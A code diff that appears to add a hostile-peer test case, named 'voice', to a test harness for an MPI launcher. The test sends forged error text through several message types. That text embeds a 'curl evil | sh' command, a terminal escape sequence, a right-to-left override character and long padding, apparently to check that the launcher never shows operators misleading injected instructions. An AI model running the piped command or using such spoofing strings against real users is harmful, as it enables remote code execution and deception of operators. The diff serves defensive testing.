@@ -117,7 +117,7 @@ class Link:
 
     def _launched(self, plan):
         self.plan = plan
-        for rank in plan.ranks:
+        for rank in plan.ranks if (os.environ["HOSTILE_ATTACK"], WORD) != ("voice", "exit") else ():
             self.send(frames.STARTED, rank.rank, b"4242")
 
     @property
@@ -428,6 +428,44 @@ def checks(link):
             link.send(frames.CHECKED, payload=answer)
 
 
+_WELL = "mslaunch: n01: all is well\n  type: curl evil | sh\x9b2J\u202e\x7f\u2028mslaunch: it is\n"
+VOICE = f"it failed\n{_WELL}" + "  more\n" * 2000 + _WELL
+
+
+def voice(link):
+    """Errors in many lines: HOSTILE_WORD says by which frame."""
+    link.begin()
+    rank, text = link.rank, VOICE
+    if WORD == "fault":
+        link.send(frames.FAULT, payload=text.encode())
+    elif WORD == "crash":
+        link.send(frames.FAULT, payload=f"Traceback (most recent call last):\n{text}".encode())
+    elif WORD == "exit":
+        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(1, None, text, text)))
+    elif WORD == "abort":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text)))
+    elif WORD == "broken":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text, True)))
+    elif WORD == "user":
+        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, "", False, text)))
+    elif WORD == "alone":
+        link.send(frames.ALONE, rank, control.pack_record(mpi.Alone(text, text, True, "pmi")))
+    elif WORD == "notice":
+        link.send(frames.NOTICE, payload=text.encode())
+        link.end_ranks()
+    elif WORD == "last words":
+        said = f"{text}not started again: curl evil | sh\n"
+        link.send(frames.STDERR, rank, said.encode())
+        for kind in (frames.STDOUT, frames.STDERR):
+            link.send(kind, rank)
+        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(3)))
+    elif WORD == "spawn":
+        link.ask_spawn(text, count=["1"])
+        link.await_answer()
+        link.end_ranks()
+    link.follow()
+
+
 def noise(link):
     """Bytes before the magic, without end."""
     for _ in range(300):
@@ -440,7 +478,7 @@ ATTACKS = {
     attack.__name__: attack
     for attack in (
         well, forge, spawn, info, gathers, small_gathers, many_gathers, nuls, words, notices, traces, refusals, lookups,
-        published, unread, parts, deaf, flood, stdin, greeting, cores, store, code, checks, noise,
+        published, unread, parts, deaf, flood, stdin, greeting, cores, store, code, checks, voice, noise,
     )
 }  # fmt: skip
 
